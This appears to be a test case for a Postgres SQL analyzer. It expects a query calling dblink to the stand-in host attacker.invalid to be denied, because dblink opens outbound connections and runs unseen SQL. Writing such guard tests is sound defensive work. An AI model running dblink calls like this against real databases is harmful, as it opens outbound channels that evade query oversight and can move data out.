-- dialect: postgres
-- expect: deny function_not_allowed
-- why: dblink opens outbound connections and runs SQL the analyzer never sees.
SELECT * FROM dblink('host=attacker.invalid dbname=x', 'SELECT 1') AS t(x int)
